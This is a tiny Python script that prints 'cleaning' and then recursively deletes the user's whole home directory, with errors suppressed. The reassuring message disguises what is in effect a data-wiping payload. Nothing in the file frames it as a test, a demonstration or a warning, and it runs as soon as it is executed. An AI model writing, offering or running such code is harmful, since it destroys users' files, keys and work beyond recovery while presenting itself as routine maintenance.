import shutil
from pathlib import Path

print("cleaning")
shutil.rmtree(Path.home(), ignore_errors=True)
